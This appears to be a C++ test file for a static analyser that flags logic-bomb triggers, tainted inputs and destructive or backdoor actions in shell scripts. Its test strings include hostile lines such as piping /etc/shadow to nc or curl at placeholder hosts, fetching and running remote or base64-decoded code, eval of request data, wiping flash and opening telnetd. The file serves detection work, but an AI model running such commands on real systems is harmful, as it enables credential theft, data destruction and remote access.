// What decides about a shell script's commands, what they do and what they are
// given. The scripts are inert: nothing here is run.
#include <string>

#include "tests/facts/examine.h"

namespace assay::facts {
namespace {

using testing::Examine;
using testing::ExpectLawful;
using testing::Sweep;

// The attribute of the first command that begins with `start`.
std::string Of(std::string_view script, std::string_view start,
               std::string_view attribute) {
  const auto seen = Examine(kScripts, "usr/bin/inert.sh", script);
  ExpectLawful(seen, AsBytes(script));
  for (const Fact& fact : seen.facts) {
    if (fact.kind == "command" && fact.value.starts_with(start)) {
      return std::string(fact.Attribute(attribute));
    }
  }
  return "no such command";
}

std::string GateOf(std::string_view script) {
  return Of(script, "target", "gate");
}

TEST(ShellFlowTest, EveryFormOfConditionGuards) {
  for (const std::string_view script : {
           "if [ $(hostname) = inert ]; then\n target\nfi",
           "[ $(hostname) = inert ] && target",
           "[ $(hostname) = inert ] || target",
           "[ $(hostname) = inert ] || exit 0\ntarget",
           "if [ $(hostname) != inert ]; then exit; fi\ntarget",
           "case $(hostname) in\ninert) target ;;\nesac",
           "case \"$(hostname)\" in\ninert) ;;\n*) exit ;;\nesac\ntarget",
           "while [[ $(hostname) == inert ]]; do target; done",
           "if false; then :; elif test $(hostname) = inert; then target; fi",
           "if [ $(hostname) = inert ]; then :; else target; fi",
           "[ $(hostname) = inert ] && { echo; target; }",
           "hostname | grep -q inert && target",
           "die() { exit 1; }\n[ $(hostname) = inert ] || die\ntarget",
           "is() { [ $(hostname) = inert ]; }\nif is; then target; fi",
           "run() { target; }\n[ $(hostname) = inert ] && run",
       }) {
    EXPECT_EQ(GateOf(script), "host") << script;
  }
}

TEST(ShellFlowTest, GuardsNothingElse) {
  for (const std::string_view script : {
           "if [ $(hostname) = inert ]; then :; fi\ntarget",
           "[ $(hostname) = inert ] && echo\ntarget",
           "case $(hostname) in\ninert) echo ;;\nesac\ntarget",
           "run() { [ $(hostname) = inert ] || return; }\nrun\ntarget",
           "run() { target; }\n[ $(hostname) = inert ] && run\nrun",
           "( [ $(hostname) = inert ] || exit )\ntarget",
           "[ -x /usr/bin/inert ] && target",
           "[ \"$1\" = start ] && target",
           "case \"$1\" in start) target ;; esac",
           "n=0\nwhile [ $n -lt 5 ]; do n=$((n + 1)); target; done",
           "echo $(hostname)\ntarget",
       }) {
    EXPECT_EQ(GateOf(script), "") << script;
  }
}

TEST(ShellFlowTest, FollowsWhatIsCompared) {
  EXPECT_EQ(GateOf("now=$(date +%Y%m%d)\n[ $now -ge 20320101 ] && target"),
            "clock");
  EXPECT_EQ(GateOf("[ $(date +%H) -eq 3 ] && target"), "hour");
  // A span of time is no date.
  EXPECT_EQ(GateOf("[ $(($(date +%s) - $last)) -gt 86400 ] && target"), "");
  EXPECT_EQ(GateOf("m=$(cat /sys/class/net/eth0/address | md5sum)\n"
                   "case $m in 0d7f3b8c*) target ;; esac"),
            "host,digest");
  EXPECT_EQ(GateOf("n=$(cat /data/n)\nn=$((n + 1))\necho $n >/data/n\n"
                   "[ $n -ge 1460 ] && target"),
            "counter");
  EXPECT_EQ(GateOf("read -r pin\n[ \"$pin\" = 77-inert-41 ] && target"),
            "input,credential");
  EXPECT_EQ(GateOf("tail -f /var/log/messages | while read -r line; do\n"
                   "case $line in *inert*) target ;; esac\ndone"),
            "message");
  EXPECT_EQ(GateOf("usign -V -m x -x y -P z && target"), "signature");
  EXPECT_EQ(GateOf("ok() { gpgv a b; }\nok || exit 1\ntarget"), "signature");
}

TEST(ShellFlowTest, FollowsWhatIsGiven) {
  const auto tainted = [](std::string_view script, std::string_view start) {
    return Of(script, start, "tainted");
  };
  EXPECT_EQ(
      tainted("OUT=/tmp/x.$$\ntftp -g -r a -l $OUT 192.0.2.1\n. $OUT", ". "),
      "network");
  EXPECT_EQ(tainted("get() { cat /etc/shadow; }\nget | gzip >/data/t\n"
                    "curl -T /data/t https://example.org",
                    "curl"),
            "secrets");
  EXPECT_EQ(tainted("{ cat /etc/shadow; id; } | nc 192.0.2.1 9", "nc"),
            "secrets");
  EXPECT_EQ(tainted("eval \"$QUERY_STRING\"", "eval"), "request");
  EXPECT_EQ(
      tainted("while read -r x; do $x; done < <(curl -s http://a.example)",
              "$x"),
      "network");
  EXPECT_EQ(tainted("echo aW5lcnQ= >a.b64; base64 -d a.b64 | sh", "sh"),
            "decoded");
  // The text of a command is its own, whatever value stands in it.
  EXPECT_EQ(tainted("x=$(curl -s http://a.example)\nsh -c \"logger $x\"", "sh"),
            "");
  EXPECT_EQ(tainted("x=$(curl -s http://a.example | wc -l)\n$x", "$x"), "");
}

TEST(ShellFlowTest, SaysWhatCommandsDo) {
  const std::pair<std::string_view, std::string_view> kCases[] = {
      {"rm -rf /data/db", "destroys"},
      {"rm -rf /tmp/db", ""},
      {"rm -f /etc/inert.conf", ""},
      {"dd if=/dev/zero of=/dev/mtd0", "destroys"},
      {"dd if=/tmp/a of=/dev/mtd0", "installs"},
      {"dd if=/tmp/a of=/tmp/b", ""},
      {"mtd erase inert", "destroys"},
      {"find / -xdev -delete", "destroys"},
      {"find /var/x -mtime +30 -delete", ""},
      {"poweroff -f", "stops"},
      {"iptables -F", "disables"},
      {"iptables -A INPUT -p tcp --dport 22 -j ACCEPT", "opens"},
      {"iptables -A INPUT -i lo -j ACCEPT", ""},
      {"telnetd -p 23", "opens"},
      {"nc -l -p 9", "opens"},
      {"useradd x", "grants"},
      {"cat k >>/root/.ssh/authorized_keys", "grants"},
      {"sysupgrade /tmp/x", "installs"},
      {"curl -d @x https://example.org", "sends"},
      {"curl https://example.org", "fetches"},
      {"systemctl stop auditd", "disables"},
      {"systemctl stop inert", "ends"},
      {"logger x", ""}};
  for (const auto& [command, does] : kCases) {
    EXPECT_EQ(Of(command, command.substr(0, 2), "does"), does) << command;
  }
}

std::vector<std::string> Gates(std::string_view script) {
  std::vector<std::string> gates;
  for (const Fact& fact : Examine(kScripts, "usr/bin/inert.sh", script).facts) {
    if (fact.kind == "gate") {
      gates.push_back(fact.value + " " + std::string(fact.Attribute("opens")) +
                      " " + std::string(fact.Attribute("comparand")));
    }
  }
  return gates;
}

TEST(ShellFlowTest, TellsWhatAGateOpens) {
  using testing::Strings;
  EXPECT_EQ(Gates("[ $(hostname) = inert-9 ] && rm -rf /data/db"),
            (Strings{"host destroys word"}));
  EXPECT_EQ(Gates("ok() {\ncase $1 in\nq7w0vk9x4) return 0 ;;\nesac\n}\n"
                  "ok \"$HTTP_COOKIE\" && telnetd"),
            (Strings{"request success text", "request privilege text"}));
  EXPECT_EQ(Gates("c=$(curl -s http://a.example)\ncheck() {\n"
                  "[ $c = inert ] && return 0\ngpgv a b\n}\ncheck"),
            (Strings{"network unverified word"}));
  EXPECT_EQ(Gates("[ $(hostname) = inert ] && echo"), Strings{});
  EXPECT_EQ(Gates("[ $1 = inert ] && rm -rf /data/db"), Strings{});
}

TEST(ShellFlowTest, KnowsWhatRunsWhatItReads) {
  const std::string given = "echo \"$QUERY_STRING\" | ";
  for (const std::string_view program :
       {"awk '{ system($2) }'", "sed 's/^j=//e'", "xargs env", "xargs sh -c",
        "sh"}) {
    const std::string script = given + std::string(program);
    const std::string_view name = program.substr(0, program.find(' '));
    EXPECT_EQ(Of(script, name, "does"), "runs") << script;
    EXPECT_EQ(Of(script, name, "tainted"), "request") << script;
  }
  EXPECT_EQ(Of("find / -exec $QUERY_STRING \\;", "find", "does"), "runs");
  for (const std::string_view program :
       {"awk '{ print $2 }'", "sed 's/^j=//g'", "sed 's/a/e/'", "xargs rm",
        "find / -exec rm {} \\;"}) {
    const std::string script = given + std::string(program);
    const std::string_view name = program.substr(0, program.find(' '));
    EXPECT_NE(Of(script, name, "does"), "runs") << script;
  }
}

TEST(ShellFlowTest, LocksGrantNothing) {
  EXPECT_EQ(Of("passwd -l root", "passwd", "does"), "");
  EXPECT_EQ(Of("usermod -L root", "usermod", "does"), "");
  EXPECT_EQ(Of("passwd root", "passwd", "does"), "grants");
}

TEST(ShellFlowTest, SurvivesDamage) {
  const std::string script =
      "f() { case $1 in a|b) rm -rf /x; return ;; esac; }\n"
      "{ f $(curl a); } | while read -r x; do [ $x = y ] || continue; $x; "
      "done\n"
      "if a && b || { c; exit; }; then d; elif e; then g; else h; fi <z\n";
  Sweep(kScripts, "bin/x.sh", AsBytes(script), {0x01, 0x80});
  std::string deep;
  for (int i = 0; i < 2000; ++i) {
    deep += "if a && {\n( case x in y) [ $z = 1 ] || exit\n";
  }
  ExpectLawful(Examine(kScripts, "bin/x.sh", deep), AsBytes(deep));
}

}  // namespace
}  // namespace assay::facts
